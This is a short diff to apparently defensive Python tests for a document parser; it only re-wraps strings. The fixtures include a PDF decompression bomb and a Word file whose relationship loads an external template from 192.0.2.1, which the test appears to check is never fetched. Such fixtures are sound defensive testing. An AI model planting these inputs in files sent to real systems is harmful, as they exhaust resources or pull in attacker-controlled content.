@@ -37,7 +37,8 @@ def pdf_bomb() -> bytes:
     chunk = zlib.compressobj(9)
     stream = b"".join(chunk.compress(b"0 0 m 1 1 l S\n" * 75_000) for _ in range(200)) + chunk.flush()
     return (
-        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
         b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
         b"4 0 obj<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj\ntrailer<</Root 1 0 R>>"
         % (len(stream), stream)
@@ -79,7 +80,8 @@ def test_a_word_file_reaches_nothing_outside_itself(tmp_path: Path) -> None:
     with zipfile.ZipFile(path, "a") as archive:
         archive.writestr(
             "word/_rels/document.xml.rels",
-            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            '<Relationship Id="r9" '
             'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
             'Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>',
         )
